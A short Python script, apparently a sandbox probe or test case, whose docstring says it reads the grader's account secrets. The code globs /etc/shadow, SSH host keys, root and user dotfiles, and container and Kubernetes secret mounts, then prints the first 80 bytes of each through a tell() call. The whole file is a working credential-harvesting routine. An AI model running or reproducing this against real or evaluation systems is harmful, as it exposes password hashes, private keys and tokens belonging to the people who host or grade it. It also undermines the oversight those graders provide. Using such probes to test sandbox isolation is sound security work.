"""Reads the secrets of the grader's account: password hashes, keys, tokens, shell history.

must: full
"""

import glob

for pattern in (
    "/etc/shadow",
    "/etc/ssh/*_key",
    "/root/.*",
    "/home/*/.*",
    "/run/secrets/*",
    "/var/run/secrets/*/*/*",
    "/etc/machine-id",
):
    for path in glob.glob(pattern):
        try:
            with open(path, "rb") as file:
                tell(f"{path}: {file.read(80)}")
        except OSError:
            continue
